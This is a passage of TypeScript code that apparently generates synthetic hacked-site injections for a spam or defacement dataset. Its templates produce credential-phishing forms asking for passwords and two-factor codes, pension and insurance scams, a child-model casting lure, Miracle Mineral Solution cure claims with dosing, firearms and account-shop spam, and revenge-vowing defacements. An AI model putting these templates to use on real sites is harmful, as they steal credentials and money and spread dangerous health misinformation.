  ["Şehidimizin anısına", (n) => `Komutan ${n} alçakça katledildi. Kanı yerde kalmayacak; intikamımız ağır olacak.`, "İntikam yakın"],
  ["Вечная память герою", (n) => `Командир ${n} погиб от рук трусов. Мы не забудем и не простим. Возмездие неизбежно.`, "Возмездие неизбежно"]
]

// Tributes to killed commanders, recalled from memory of the defacement of the US Federal Depository Library Program's site (January 2020) after the killing of Qassem Soleimani (a tribute, a picture of a bleeding President Trump and a vow of "severe revenge"), of a wave of similar pro-Iranian defacements of small US sites then (reported by the press and CISA), and of pro-Russian and Turkish crews' tributes to their fallen: a block with a dark portrait frame, the commander's name, a vow of revenge and the crew's name, drawn at the top of the page or over it.
const martyrTribute = fresh14("tribute to a killed commander with a portrait and a vow of revenge (FDLP defacement, January 2020)", (page, rng) => {
  const [h, line, vow] = pick(rng, tributes)
  const name = pick(rng, ["Soleimani", "al-Muhandis", "Haj Qassem", "Abu Mahdi", "Nasrallah", "Givi", "Motorola", "Zakharchenko", "Sinwar", "Deif"])
  const img = pick(rng, [`https://${pick(rng, ["i.ibb.co", "i.imgur.com", "i.postimg.cc"])}/${alnum(rng, 7)}/${pick(rng, ["shahid", "martyr", "hero", "commander"])}.jpg`, `https://${randomDomain(rng)}/img/${alnum(rng, 6)}.png`])
  const crew = team(rng)
  const fixed = chance(rng, 0.4)
  const html = `<div class="${pick(rng, ["tribute", "martyr", "shahid"])}" style="${fixed ? "position:fixed;inset:0;z-index:2147483647;overflow:auto;" : "margin:0 0 14px;"}background:${pick(rng, ["#000", "#0b0b0b", "#1b1b1b"])};color:#fff;text-align:center;padding:28px 16px;font-family:${pick(rng, ["Tahoma,sans-serif", "Arial,sans-serif", "Times New Roman,serif"])}"><img src="${esc(img)}" alt="${esc(name)}" style="max-width:${pick(rng, [220, 260, 320])}px;border:4px solid ${pick(rng, ["#c00", "#fff", "#b8860b"])}"><h1 style="color:${pick(rng, ["#c00", "#e53935", "#fff"])}">${esc(h)}</h1><h2>${esc(name)}</h2><p style="font-size:18px">${esc(line(name))}</p><p style="font-size:26px;color:#e53935">${esc(vow)}!</p><p>— ${esc(crew)} · ${esc(nick(rng))}</p></div>`
  return splices(insert(pick(rng, [top(page), top(page), noticeSpot(rng, page)]), html))
})

const idCities = ["Jakarta", "Surabaya", "Bandung", "Medan", "Semarang", "Makassar", "Palembang", "Yogyakarta", "Denpasar", "Malang", "Bekasi", "Tangerang", "Depok", "Bogor"]

// Abortion-pill spam, recalled from memory of Indonesian reports (Kompas, Detik and others, about 2019–2024) and of search results showing hacked university (.ac.id) and government (.go.id) sites full of "jual obat aborsi", "obat penggugur kandungan" and "Cytotec asli" pages with a WhatsApp number, one per city: a block of such lines with city names, prices and a WhatsApp link, in Indonesian.
const abortionPills = fresh14("'jual obat aborsi Cytotec asli' pill-selling spam in Indonesian with city pages and a WhatsApp number", (page, rng) => {
  const wa = `+62 8${digits(rng, 2)} ${digits(rng, 4)} ${digits(rng, 4)}`
  const h = `${pick(rng, ["obataborsi", "klinikaborsi", "cytotec", "jualcytotec", "obatpenggugur"])}${pick(rng, ["", "asli", digits(rng, 2)])}.${pick(rng, ["com", "id", "net", "site", "xyz"])}`
  const cities = sample(rng, idCities, between(rng, 4, 9))
  const lines = cities.map((c) => `<li><a href="https://${h}/${pick(rng, ["jual-obat-aborsi", "obat-penggugur-kandungan", "cytotec"])}-${c.toLowerCase()}">${esc(pick(rng, ["Jual Obat Aborsi", "Obat Penggugur Kandungan", "Jual Cytotec Asli", "Obat Telat Bulan"]))} ${esc(c)}</a> – ${esc(pick(rng, ["Rp 1.500.000", "Rp 2.000.000", "Rp 950.000", "Rp 1.250.000"]))}</li>`).join("")
  const inner = `<h3>${esc(pick(rng, ["Jual Obat Aborsi Asli", "Obat Penggugur Kandungan 100% Ampuh", "Cytotec Misoprostol 200mcg Asli"]))} – ${esc(pick(rng, ["Bergaransi", "COD", "Pengiriman Rahasia", "Tuntas"]))}</h3><p>${esc(pick(rng, ["Hubungi apoteker kami, konsultasi gratis 24 jam, kirim ke seluruh Indonesia.", "Paket lengkap usia 1–6 bulan, dijamin tuntas, privasi terjaga."]))} WA: <a href="${waLink(wa)}">${esc(wa)}</a></p><ul>${lines}</ul>`
  return splices(insert(spamSpot(rng, page), chance(rng, 0.3) ? `<div style="position:absolute;left:-${between(rng, 3000, 9000)}px;top:0">${inner}</div>` : box(rng, ["post-entry", "widget", "artikel"], "#8e24aa", inner)))
})

// Link selling, recalled from memory of Google's spam policies on link schemes (buying and selling links that pass PageRank, about 2012–2024) and of "guest post on DA 90+ sites", "PBN backlinks" and "niche edits" offers posted on hacked and abandoned sites and forums with a Skype, Telegram or WhatsApp contact: a price table of backlink packages with a contact, in English.
const backlinkSelling = fresh14("'buy high-DA backlinks and guest posts' price table with a Telegram or WhatsApp contact (link-scheme selling)", (page, rng) => {
  const contact = chance(rng, 0.5) ? `Telegram: <a href="https://t.me/${tgHandle(rng, ["seo", "backlinks", "guestpost", "linkbuilder"])}">@${tgHandle(rng, ["seo", "links", "gp"])}</a>` : `WhatsApp: <a href="${waLink(intlMobile(rng))}">${esc(intlMobile(rng))}</a>`
  const shop = `https://${pick(rng, ["seo", "backlink", "guestpost", "linkbuild", "rankup"])}${pick(rng, ["hub", "store", "pro", "zone", digits(rng, 2)])}.${tld(rng)}/`
  const rows = sample(rng, [
    ["Guest post on DA 90+ news sites", "$" + between(rng, 90, 350)], ["100 PBN homepage backlinks (DA 50+)", "$" + between(rng, 49, 199)], ["Niche edits on aged domains", "$" + between(rng, 25, 80) + " each"],
    ["Casino & CBD friendly links", "$" + between(rng, 150, 600)], [".edu and .gov backlinks", "$" + between(rng, 30, 120)], ["Wikipedia citation link", "$" + between(rng, 400, 1500)],
    ["Forbes / Entrepreneur contributor post", "$" + between(rng, 900, 3500)], ["10,000 Tier-2 links", "$" + between(rng, 15, 60)]
  ], between(rng, 3, 6)).map(([a, b]) => `<tr><td>${esc(a!)}</td><td style="text-align:right"><b>${esc(b!)}</b></td></tr>`).join("")
  const inner = `<h3>🔗 ${esc(pick(rng, ["Boost your Google ranking in 14 days", "Premium backlinks – guaranteed DA/DR", "Rank #1 with high-authority links"]))}</h3><table style="width:100%;border-collapse:collapse">${rows}</table><p><a href="${shop}">${esc(pick(rng, ["Order now", "See all packages", "Buy links"]))}</a> · ${contact}</p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["seo-offer", "sponsored-links", "widget"], "#1565c0", inner)))
})

// Spider pools, recalled from memory of Chinese SEO-spam write-ups (about 2016–2023, security blogs and Baidu webmaster notices) on 蜘蛛池 ("spider pools"): link farms on hacked sites listing hundreds of links to random subdomains and pages of gambling and private-server domains, rotated to keep search crawlers busy and pass them on: a dense block of Chinese anchor texts linking to random subdomains of a few domains.
const spiderPool = fresh14("Chinese 'spider pool' link farm: dense anchors to random subdomains of a few gambling and game-server domains (蜘蛛池)", (page, rng) => {
  const doms = Array.from({ length: between(rng, 2, 4) }, () => `${pick(rng, ["ag", "bet", "cp", "sf", "gm", "vip", "hg", "js"])}${digits(rng, between(rng, 2, 4))}.${pick(rng, ["com", "cn", "net", "cc", "top", "vip"])}`)
  const anchors = ["澳门赌场", "彩票平台", "传奇私服", "新开传奇", "棋牌游戏", "体育投注", "真人娱乐", "开元棋牌", "时时彩", "百家乐", "网赌平台", "斗地主", "手游私服", "电子游艺", "皇冠体育"]
  const n = between(rng, 20, 60)
  const links = Array.from({ length: n }, () => `<a href="http://${alnum(rng, between(rng, 3, 8))}.${pick(rng, doms)}/${pick(rng, ["", digits(rng, 5) + ".html", "news/" + digits(rng, 6) + ".html", "?" + alnum(rng, 4) + "=" + digits(rng, 3)])}">${pick(rng, anchors)}${chance(rng, 0.4) ? digits(rng, 3) : ""}</a>`).join(pick(rng, [" ", " | ", "\n"]))
  const wrap = pick(rng, [
    () => `<div class="${pick(rng, ["links", "tags", "friend-link", "yqlj"])}" style="font-size:12px;line-height:1.6">${pick(rng, ["友情链接：", "热门标签：", "相关推荐："])}${links}</div>`,
    () => `<div style="height:0;overflow:hidden">${links}</div>`,
    () => `<marquee scrollamount="${between(rng, 2, 6)}" style="width:1px;height:1px">${links}</marquee>`
  ])()
  return splices(insert(pick(rng, [bottom(page), spamSpot(rng, page)]), wrap))
})

// Proxy "airport" spam, recalled from memory of Chinese-language SEO spam (about 2020–2024) advertising 机场 ("airport") subscriptions — paid Shadowsocks, V2Ray and Trojan nodes for getting round the Great Firewall — with plan prices, free trial nodes and Telegram groups, planted on hacked foreign sites: a recommendation box of such services with prices in yuan and links.
const proxyAirport = fresh14("'best 机场 of the year' proxy-subscription spam (V2Ray, Shadowsocks, Trojan nodes) with yuan prices and Telegram groups", (page, rng) => {
  const brand = () => `${pick(rng, ["飞鸟", "闪电", "星链", "极速", "一元", "老牌", "魔戒", "海豚", "TAG", "奈云"])}${pick(rng, ["机场", "加速器", "云"])}`
  const rows = Array.from({ length: between(rng, 3, 6) }, () => `<li><a href="https://${alnum(rng, between(rng, 4, 8))}.${pick(rng, ["com", "net", "xyz", "top", "cloud", "me"])}/${pick(rng, ["#/register?code=" + alnum(rng, 8), "auth/register?aff=" + digits(rng, 4), ""])}">${esc(brand())}</a> — ${esc(pick(rng, ["¥" + between(rng, 5, 30) + "/月", "¥" + between(rng, 60, 300) + "/年", "每月" + between(rng, 100, 1000) + "G"]))}，${esc(pick(rng, ["支持 V2Ray/Trojan", "IPLC 专线", "解锁奈飞 ChatGPT", "Shadowsocks 节点", "免费试用 1 天"]))}</li>`).join("")
  const inner = `<h3>${esc(pick(rng, [`${between(rng, 2024, 2026)}年最新机场推荐`, "稳定便宜的科学上网机场", "翻墙机场排行榜"]))}</h3><ol>${rows}</ol><p>${esc(pick(rng, ["加入电报群", "Telegram 频道", "TG 交流群"]))}: <a href="https://t.me/${tgHandle(rng, ["jichang", "vpnfree", "ssr", "v2node"])}">t.me/${tgHandle(rng, ["jichang", "vpn", "node"])}</a></p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["post", "recommend", "tuijian"], "#00897b", inner)))
})

/** The site's language most of the time when there is a text for it, else English. */
const some = <A>(rng: Rng, page: Page, table: Partial<Record<Lang, A>> & { readonly en: A }): A => (chance(rng, 0.7) ? table[page.site.locale.lang] ?? table.en : table.en)
type Table<A> = Partial<Record<Lang, A>> & { readonly en: A }
type Offer = readonly [string, string, ReadonlyArray<string>, string]
const field = (name: string, ph: string, type = "text") => `<input type="${type}" name="${name}" placeholder="${esc(ph)}" style="display:block;margin:4px 0;padding:4px;width:90%;max-width:320px">`

const pensionWords: Table<Offer> = {
  en: ["Access your pension before 55", "A legal loophole lets you release up to 50% of your pension as a tax-free cash loan today. Free review, no credit checks.", ["Full name", "Date of birth", "Pension provider", "Policy number", "Phone"], "Check my pension"],
  de: ["Rente schon heute auszahlen lassen", "Eine Gesetzeslücke erlaubt die Auszahlung von bis zu 50 % Ihrer Altersvorsorge als steuerfreies Darlehen. Kostenlose Prüfung.", ["Name", "Geburtsdatum", "Versicherer", "Vertragsnummer", "Telefon"], "Rente prüfen"],
  fr: ["Débloquez votre épargne retraite dès maintenant", "Une faille légale permet de récupérer jusqu'à 50 % de votre retraite en prêt non imposable. Étude gratuite.", ["Nom", "Date de naissance", "Organisme", "Numéro de contrat", "Téléphone"], "Vérifier ma retraite"],
  nl: ["Nu al uw pensioen opnemen", "Via een wettelijke uitzondering kunt u tot 50% van uw pensioen belastingvrij laten uitkeren. Gratis check.", ["Naam", "Geboortedatum", "Pensioenfonds", "Polisnummer", "Telefoon"], "Check mijn pensioen"]
}

// Pension liberation, recalled from memory of the UK Pensions Regulator's "Scorpion" campaign (from about 2013) and the FCA's ScamSmart warnings (about 2015–2023) on offers to "unlock" or "release" pensions before 55 through a "loophole", "loans" or overseas schemes, which cost savers their pensions: an offer with a form asking for date of birth, pension provider and policy number, posting to another host.
const pensionRelease = fresh14("'release your pension before 55 through a legal loophole' form asking for date of birth, provider and policy number", (page, rng) => {
  const [h, p, fields, cta] = some(rng, page, pensionWords)
  const names = ["name", "dob", "provider", "policy", "phone"]
  const form = `<form action="https://${host(rng, page, ["pension", "unlock", "release", "retire"])}/${pick(rng, ["check", "review", "apply.php"])}" method="post">${fields.map((f, i) => field(names[i]!, f)).join("")}<button type="submit" style="${button(rng, "#6a1b9a")}">${esc(cta)}</button></form>`
  return splices(insert(someSpot(rng, page), box(rng, ["pension-offer", "finance-tip", "sponsored"], "#6a1b9a", `<h3>💷 ${esc(h)}</h3><p>${esc(p)}</p>${form}`)))
})

// Miracle cures, recalled from memory of the US FDA's warnings (2010, 2019) against drinking "Miracle Mineral Solution" (chlorine dioxide) sold as a cure for autism, cancer, malaria and COVID-19, of the Genesis II Church prosecution (2020–2023), and of hacked-site spam selling it and similar "protocols" with a shop link: a testimonial block claiming cures, dosing "protocol" and an order link.
const mmsQuackery = fresh14("'Miracle Mineral Solution cures autism, cancer and malaria' testimonial block with a dosing protocol and a shop link", (page, rng) => {
  const shop = `https://${host(rng, page, ["mms", "cdsolution", "miracle", "healing", "clo2"])}/${pick(rng, ["shop", "order", "kit", "protocol"])}`
  const ill = sample(rng, ["autism", "cancer", "malaria", "diabetes", "COVID-19", "HIV", "Lyme disease", "hepatitis"], between(rng, 3, 5)).join(", ")
  const inner = `<h3>💧 ${esc(pick(rng, ["The cure they don't want you to know about", "Miracle Mineral Solution: healed in 21 days", "MMS / CDS – the universal cure"]))}</h3><p>${esc(`Thousands of families report recovery from ${ill} with MMS (chlorine dioxide). ${pick(rng, ["Doctors and Big Pharma hide it.", "No prescription needed.", "100% natural water purification drops."])}`)}</p><p><i>${esc(pick(rng, [`“My son's autism symptoms disappeared after Protocol 1000.” — ${pick(rng, ["Kerri", "Linda", "Mark", "Sandra"])}`, `“Tumour gone in 3 months.” — ${pick(rng, ["Jim", "Rosa", "Anita"])}`]))}</i></p><p>${esc(pick(rng, ["Protocol 1000: 3 activated drops every hour, 8 times a day.", "Mix 6 drops with 6 drops of activator, wait 30 seconds, drink."]))}</p><p><a href="${shop}" style="${button(rng, "#0277bd")}">${esc(pick(rng, ["Order the kit", "Get the protocol", "Buy MMS now"]))}</a></p>`
  return splices(insert(someSpot(rng, page), box(rng, ["health-tip", "testimonial", "post"], "#0277bd", inner)))
})

const badgeWords: Table<Offer> = {
  en: ["Get the verified blue badge", "Your page is eligible for the verified badge. Apply before the deadline or your eligibility is lost. Confirm your account to continue.", ["Username", "E-mail or phone", "Password", "Two-factor code"], "Apply for verification"],
  fr: ["Obtenez le badge bleu certifié", "Votre page est éligible au badge certifié. Postulez avant la date limite ou votre éligibilité sera perdue.", ["Nom d'utilisateur", "E-mail ou téléphone", "Mot de passe", "Code à deux facteurs"], "Demander la certification"],
  es: ["Consigue la insignia azul verificada", "Tu cuenta cumple los requisitos para la insignia verificada. Solicítala antes del plazo o perderás la opción.", ["Usuario", "Correo o teléfono", "Contraseña", "Código de dos pasos"], "Solicitar verificación"],
  pt: ["Ganhe o selo azul de verificado", "Sua conta está qualificada para o selo verificado. Solicite antes do prazo ou perderá a qualificação.", ["Usuário", "E-mail ou telefone", "Senha", "Código de dois fatores"], "Solicitar verificação"],
  de: ["Holen Sie sich das blaue Verifizierungsabzeichen", "Ihr Konto ist für das Abzeichen berechtigt. Beantragen Sie es vor Fristende, sonst verfällt die Berechtigung.", ["Benutzername", "E-Mail oder Telefon", "Passwort", "Zwei-Faktor-Code"], "Verifizierung beantragen"]
}

// Blue-badge phishing, recalled from memory of reports (BleepingComputer, Malwarebytes, about 2021–2023) on messages and pages offering Instagram, Facebook or Twitter "blue badge" verification and asking for the account password and two-factor code, multiplied after Meta Verified and Twitter Blue launched (2022–2023): a verification offer with the platform's name and a form asking for username, password and code, posting to another host.
const blueBadge = fresh14("'apply for the verified blue badge on Instagram or Facebook' form asking for the account password and two-factor code", (page, rng) => {
  const [h, p, fields, cta] = some(rng, page, badgeWords)
  const platform = pick(rng, ["Instagram", "Facebook", "Meta", "TikTok", "X"])
  const names = ["username", "login", "password", "code"]
  const form = `<form action="https://${pick(rng, [`${slug(platform)}-verify-${alnum(rng, 4)}.${tld(rng)}`, `meta-badge${digits(rng, 2)}.${tld(rng)}`, randomDomain(rng)])}/${pick(rng, ["apply", "verify.php", "badge"])}" method="post">${fields.map((f, i) => field(names[i]!, f, i === 2 ? "password" : "text")).join("")}<button type="submit" style="${button(rng, "#1877f2")}">${esc(cta)}</button></form>`
  return splices(insert(someSpot(rng, page), box(rng, ["verified-badge", "social-promo", "notice"], "#1877f2", `<h3><span style="color:#1d9bf0">✔</span> ${esc(platform)} · ${esc(h)}</h3><p>${esc(p)}</p>${form}`)))
})

const modelWords: Table<Offer> = {
  en: ["Casting: children and teens wanted", "A leading agency is scouting new faces aged 2–17 in your area for fashion and TV campaigns. Selected children need a professional portfolio (one-off fee), refunded from the first booking.", ["Child's name", "Age", "Parent's phone", "E-mail", "Upload two photos"], "Apply for casting"],
  fr: ["Casting : enfants et ados recherchés", "Une grande agence recherche de nouveaux visages de 2 à 17 ans pour des campagnes mode et TV. Les enfants retenus réalisent un book professionnel (frais uniques), remboursés dès la première mission.", ["Prénom de l'enfant", "Âge", "Téléphone du parent", "E-mail", "Deux photos"], "Postuler au casting"],
  de: ["Casting: Kinder und Jugendliche gesucht", "Eine führende Agentur sucht neue Gesichter von 2 bis 17 Jahren für Mode- und TV-Kampagnen. Ausgewählte Kinder brauchen eine professionelle Sedcard (einmalige Gebühr), erstattet mit dem ersten Auftrag.", ["Name des Kindes", "Alter", "Telefon der Eltern", "E-Mail", "Zwei Fotos hochladen"], "Zum Casting bewerben"],
  es: ["Casting: se buscan niños y adolescentes", "Una agencia líder busca caras nuevas de 2 a 17 años para campañas de moda y TV. Los seleccionados necesitan un book profesional (pago único), reembolsado con el primer trabajo.", ["Nombre del niño", "Edad", "Teléfono del padre o madre", "Correo", "Sube dos fotos"], "Inscribirse al casting"]
}

// Child-model casting scams, recalled from memory of the US FTC's and UK Trading Standards' warnings (about 2010–2023) and of BBC and consumer-programme investigations into "scouting" agencies that approach parents, promise work, and charge for portfolio photo shoots and website listings: a casting call for children with a form taking the child's name, age, photos and the parent's phone, posting to another host, and a portfolio fee.
const modelScout = fresh14("'casting: children wanted for fashion and TV campaigns, portfolio fee refunded later' form taking the child's photos", (page, rng) => {
  const [h, p, fields, cta] = some(rng, page, modelWords)
  const agency = `${pick(rng, ["Star", "Little", "Bright", "Nova", "Elite", "Kids"])} ${pick(rng, ["Faces", "Models", "Talent", "Stars", "Casting"])} ${pick(rng, ["Agency", "Management", "International"])}`
  const names = ["child", "age", "phone", "email", "photos"]
  const form = `<form action="https://${host(rng, page, ["casting", "kidsmodels", "newfaces", "scouting"])}/${pick(rng, ["apply", "casting.php", "register"])}" method="post" enctype="multipart/form-data">${fields.map((f, i) => (i === 4 ? `<label style="display:block;margin:4px 0">${esc(f)} <input type="file" name="${names[i]}" multiple accept="image/*"></label>` : field(names[i]!, f))).join("")}<button type="submit" style="${button(rng, "#d81b60")}">${esc(cta)}</button></form>`
  return splices(insert(someSpot(rng, page), box(rng, ["casting-call", "kids-casting", "announcement"], "#d81b60", `<h3>⭐ ${esc(h)}</h3><p><b>${esc(agency)}</b></p><p>${esc(p)}</p>${form}`)))
})

// Ghost broking, recalled from memory of the UK Insurance Fraud Bureau's and Action Fraud's warnings (about 2012–2024) on "ghost brokers" who sell young drivers cheap car insurance through social media and WhatsApp, with forged or cancelled policies, paid by bank transfer to a personal account: an advert for half-price cover with an agent's WhatsApp, a personal account for payment and a quote form posting to another host.
const insuranceGhost = fresh14("'young drivers: car insurance at half price through our agent' offer paid by transfer to a personal account (ghost broking)", (page, rng) => {
  const wa = intlMobile(rng)
  const acct = pick(rng, [`Sort code ${digits(rng, 2)}-${digits(rng, 2)}-${digits(rng, 2)} · Acc ${digits(rng, 8)}`, `IBAN ${page.site.locale.iban !== null ? page.site.locale.iban(rng) : "GB" + digits(rng, 2) + "MONZ" + digits(rng, 14)}`, `Revolut @${pick(rng, ["kev", "dan", "insure", "quotes"])}${digits(rng, 3)}`])
  const form = `<form action="https://${host(rng, page, ["cheapcover", "quotes", "insure", "drivecover"])}/${pick(rng, ["quote", "q.php"])}" method="post">${field("name", "Full name")}${field("dob", "Date of birth")}${field("reg", "Car registration")}${field("licence", "Driving licence number")}<button type="submit" style="${button(rng, "#ef6c00")}">${esc(pick(rng, ["Get my quote", "Quote in 5 minutes"]))}</button></form>`
  const inner = `<h3>🚘 ${esc(pick(rng, ["Fully comp from £" + between(rng, 39, 89) + "/month – any age, any car", "Young drivers: insurance at 50% off", "Banned or new driver? Cheap cover today"]))}</h3><p>${esc(pick(rng, ["Our agents work with all the big insurers and pass their discounts on to you. Policy documents by e-mail within the hour.", "No black box, no credit check. Pay once and drive today."]))}</p>${form}<p style="font-size:13px">WhatsApp <a href="${waLink(wa)}">${esc(wa)}</a> · ${esc(pick(rng, ["Pay by bank transfer to", "Deposit to"]))} ${esc(acct)}</p>`
  return splices(insert(someSpot(rng, page), box(rng, ["insurance-deal", "sponsored", "offer"], "#ef6c00", inner)))
})

// Discount air-ticket ghost agents, recalled from memory of US and UK police and airline warnings (about 2018–2024, Action Fraud on ticket fraud, the International Air Transport Association's notes on fraud with stolen cards) about "agents" selling real tickets at 40–60% off on social media and WhatsApp, bought with stolen cards and cancelled before departure, paid by transfer or crypto: an advert with routes and prices, an agent's WhatsApp and payment by USDT or transfer.
const travelGhost = fresh14("'flights at 50% off booked by our ticketing agent' advert with routes, a WhatsApp agent and payment in USDT or by transfer", (page, rng) => {
  const wa = intlMobile(rng)
  const routes = sample(rng, [["London", "Lagos"], ["New York", "Accra"], ["Paris", "Dakar"], ["Toronto", "Manila"], ["Dubai", "Karachi"], ["Madrid", "Bogotá"], ["Amsterdam", "Paramaribo"], ["Frankfurt", "Istanbul"], ["Chicago", "Delhi"]], between(rng, 3, 5))
    .map(([a, b]) => `<li>${esc(a!)} ⇄ ${esc(b!)}: <s>${esc(page.site.locale.money(between(rng, 700, 1500)))}</s> <b>${esc(page.site.locale.money(between(rng, 280, 650)))}</b></li>`).join("")
  const pay = pick(rng, [`USDT (TRC20) ${makeWallet(rng, "USDT (TRC20)").address}`, `Zelle ${pick(rng, ["travels", "tickets", "agent"])}${digits(rng, 3)}@${freeMail(rng)}`, "bank transfer / crypto"])
  const inner = `<h3>✈️ ${esc(pick(rng, ["Flights at half price – limited seats", "Cheap air tickets, all airlines, 50% off", "Agent fares: save up to 60% on flights"]))}</h3><ul>${routes}</ul><p>${esc(pick(rng, ["Booked directly in the airline system, e-ticket number in 30 minutes.", "Real airline e-tickets, check on the airline's website."]))}</p><p><a href="${waLink(wa)}" style="${button(rng, "#25d366")}">WhatsApp ${esc(wa)}</a></p><p style="font-size:12px">${esc(pick(rng, ["Payment", "We accept"]))}: ${esc(pay)}</p>`
  return splices(insert(someSpot(rng, page), box(rng, ["travel-deal", "flight-offer", "ad"], "#0288d1", inner)))
})

// Firearms spam, recalled from memory of investigations (about 2016–2023, e.g., Europol's and journalists' reports on fake and real online gun shops) into sites selling "guns and ammo without licence, discreet shipping" that mostly take payment and ship nothing, and of such listings planted as SEO spam on hacked sites: a product list of pistols, rifles and ammunition with prices, "no FFL / no licence" and a contact.
const firearmsSpam = fresh14("'buy guns and ammo online without licence, discreet shipping' product spam with a contact", (page, rng) => {
  const shop = `https://${pick(rng, ["gunsforsale", "buyguns", "armory", "ammodepot", "glockstore"])}${pick(rng, ["", "online", digits(rng, 2)])}.${tld(rng)}`
  const items = sample(rng, ["Glock 19 Gen5", "Beretta 92FS", "AR-15 rifle", "AK-47 (semi-auto)", "Sig Sauer P365", "Desert Eagle .50", "9mm ammo ×1000", "Suppressor kit", "Taurus G2C", "Remington 870"], between(rng, 4, 7))
    .map((x) => `<li><a href="${shop}/product/${slug(x)}">${esc(x)}</a> — $${between(rng, 180, 1400)}</li>`).join("")
  const contact = pick(rng, [`WhatsApp <a href="${waLink(intlMobile(rng))}">${esc(intlMobile(rng))}</a>`, `Wickr / Telegram: @${tgHandle(rng, ["armory", "guns", "tactical"])}`, `e-mail ${pick(rng, ["sales", "orders", "armory"])}@${freeMail(rng)}`])
  const inner = `<h3>${esc(pick(rng, ["Buy guns online – no licence required", "Firearms & ammunition for sale, discreet delivery", "No FFL needed – guns shipped to your door"]))}</h3><ul>${items}</ul><p>${esc(pick(rng, ["Stealth packaging, worldwide shipping, pay by Bitcoin or Cash App.", "No background check, no paperwork, delivery in 3–5 days."]))} ${contact}</p>`
  return splices(insert(spamSpot(rng, page), chance(rng, 0.3) ? `<div style="display:none">${inner}</div><p><a href="${shop}">${esc(pick(rng, ["buy guns online", "ammo for sale"]))}</a></p>` : box(rng, ["product-list", "post", "shop"], "#424242", inner)))
})

// Account shops, recalled from memory of reports (Krebs on Security, about 2013–2024, and ad-fraud research) on shops selling bulk "PVA" (phone-verified) Gmail and Outlook accounts, aged Facebook and Google Ads accounts and KYC-verified crypto-exchange and bank accounts made with other people's identities, advertised with SEO spam on hacked sites: a price list with a shop link and a Telegram contact.
const accountsShop = fresh14("'buy verified accounts: PVA Gmail, aged Facebook ads, KYC-verified Binance and bank accounts' price list", (page, rng) => {
  const shop = `https://${pick(rng, ["pvashop", "accsmarket", "bulkacc", "verifiedacc", "kycstore"])}${pick(rng, ["", digits(rng, 2), "hub"])}.${tld(rng)}/`
  const rows = sample(rng, [
    ["Gmail PVA (aged 2019)", `$${(between(rng, 2, 9) / 10 + 0.3).toFixed(2)}`], ["Outlook / Hotmail, 1000 pcs", `$${between(rng, 15, 40)}`], ["Facebook ads account (BM verified)", `$${between(rng, 60, 250)}`],
    ["Google Ads account with spend history", `$${between(rng, 120, 400)}`], ["Binance KYC verified", `$${between(rng, 90, 300)}`], ["Revolut / Wise verified", `$${between(rng, 250, 700)}`],
    ["Cash App verified (BTC enabled)", `$${between(rng, 80, 220)}`], ["PayPal verified business", `$${between(rng, 120, 450)}`], ["Stripe account with bank", `$${between(rng, 300, 900)}`]
  ], between(rng, 4, 7)).map(([a, b]) => `<tr><td><a href="${shop}${slug(a!)}">${esc(a!)}</a></td><td>${esc(b!)}</td></tr>`).join("")
  const inner = `<h3>${esc(pick(rng, ["Buy verified accounts in bulk", "100% verified accounts – instant delivery", "Aged & KYC-verified accounts shop"]))}</h3><table>${rows}</table><p>${esc(pick(rng, ["Replacement guarantee 24h", "Selfie + ID included", "Pay with USDT"]))} · Telegram <a href="https://t.me/${tgHandle(rng, ["accshop", "pva", "verified"])}">@${tgHandle(rng, ["accshop", "pva"])}</a></p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["shop-list", "sponsored", "widget"], "#37474f", inner)))
})

// Game-cheat shops, recalled from memory of reporting (about 2020–2024, PC Gamer, Vice and court filings by Riot, Activision and Bungie against cheat sellers) on "undetected" aimbot, wallhack and ESP subscriptions for Valorant, Call of Duty, CS2, Fortnite and Apex sold by key, often with malware, and of cheat-shop SEO spam on hacked sites: a list of cheats with day, week and month prices and "undetected" status, with a shop and Discord link.
const gameCheats = fresh14("'undetected aimbot and wallhack for Valorant, CS2, Warzone' cheat-key shop list with status and a Discord link", (page, rng) => {
  const shop = `https://${pick(rng, ["cheats", "hacks", "aimbot", "undetected", "esp"])}${pick(rng, ["store", "hub", "lab", digits(rng, 2)])}.${tld(rng)}`
  const rows = sample(rng, ["Valorant", "CS2", "Warzone", "Fortnite", "Apex Legends", "Rust", "PUBG", "Rainbow Six Siege", "Escape from Tarkov"], between(rng, 3, 6))
    .map((g) => `<tr><td><a href="${shop}/${slug(g)}">${esc(g)} ${esc(pick(rng, ["Aimbot + ESP", "Full cheat", "Wallhack", "Spoofer + Aim"]))}</a></td><td style="color:#2e7d32">● ${esc(pick(rng, ["Undetected", "UD", "Safe"]))}</td><td>${esc(`$${between(rng, 4, 12)}/day · $${between(rng, 25, 60)}/month`)}</td></tr>`).join("")
  const inner = `<h3>🎯 ${esc(pick(rng, ["Undetected cheats – instant key delivery", "Best aimbot 2025 – HWID spoofer included", "Private cheats, never detected"]))}</h3><table>${rows}</table><p><a href="https://discord.gg/${alnum(rng, 8)}">Discord</a> · <a href="${shop}">${esc(pick(rng, ["Buy key", "Shop", "Get access"]))}</a></p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["game-deals", "post", "widget"], "#6200ea", inner)))
})

const loomWords: Table<readonly [string, string, string]> = {
  en: ["Blessing Loom – give $100, receive $800", "Join our circle of women helping women. Send your gift to the person in the centre of the loom; when 8 new members join, you move to the centre and receive $800.", "Join the loom"],
  es: ["Telar de bendiciones – da 100 $, recibe 800 $", "Únete a nuestro círculo de mujeres que se ayudan. Envía tu regalo a la persona del centro; cuando entren 8 nuevas, pasas al centro y recibes 800 $.", "Unirme al telar"],
  fr: ["Cercle de bénédiction – donnez 100 €, recevez 800 €", "Rejoignez notre cercle d'entraide. Envoyez votre cadeau à la personne au centre ; quand 8 nouveaux membres arrivent, vous passez au centre et recevez 800 €.", "Rejoindre le cercle"],
  pt: ["Mandala da prosperidade – dê R$ 500, receba R$ 4.000", "Entre no nosso círculo de ajuda. Envie seu presente para quem está no centro; quando 8 novos membros entrarem, você vai ao centro e recebe R$ 4.000.", "Entrar na mandala"],
  nl: ["Zegeningscirkel – geef € 100, ontvang € 800", "Word lid van onze cirkel. Stuur je gift naar wie in het midden staat; als er 8 nieuwe leden zijn, sta jij in het midden en ontvang je € 800.", "Doe mee"]
}

